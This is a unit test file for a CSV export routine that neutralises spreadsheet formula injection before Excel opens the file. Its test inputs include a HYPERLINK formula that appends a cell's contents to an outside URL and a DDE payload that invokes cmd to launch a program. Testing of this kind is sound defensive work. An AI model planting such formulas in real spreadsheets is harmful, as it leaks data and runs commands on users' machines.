import { csvDocument, csvField, neutraliseCell } from '../../libs/domain/index.js';

describe('spreadsheet cells (CSV for Excel)', () => {
  it.each([
    ['=HYPERLINK("http://x/?x="&A1,"点击查看")', `"'=HYPERLINK(""http://x/?x=""&A1,""点击查看"")"`],
    ['+1+1', "'+1+1"],
    ['@SUM(1,1)', `"'@SUM(1,1)"`],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises text that would start a formula: %j', (text, field) => {
    expect(csvField(text)).toBe(field);
  });

  it.each([
    ['班前安全讲话记录不全', '班前安全讲话记录不全'],
    ['a=b, c', '"a=b, c"'],
    ['台账"三会一课"', '"台账""三会一课"""'],
    ['', ''],
    ["'quoted already", "'quoted already"],
  ])('leaves other text as it is, quoted only where RFC 4180 needs it: %j', (text, field) => {
    expect(csvField(text)).toBe(field);
  });

  it('writes numbers as numbers, negative ones included, and refuses what is no number', () => {
    expect([csvField(-2), csvField(3), csvField(0.5)]).toEqual(['-2', '3', '0.5']);
    expect(() => csvField(Number.NaN)).toThrow(RangeError);
    expect(() => csvField(Number.POSITIVE_INFINITY)).toThrow(RangeError);
  });

  it('prefixes only the cells that need it', () => {
    expect(['=1', 'x=1', ' =1', '1-2'].map(neutraliseCell)).toEqual(["'=1", 'x=1', ' =1', '1-2']);
  });

  it('builds a document Excel opens: BOM, CRLF, every cell through the same rule', () => {
    expect(csvDocument(['问题', '轮次'], [['=1+1', 2], ['ok', -1]])).toBe("\uFEFF问题,轮次\r\n'=1+1,2\r\nok,-1\r\n");
  });
});
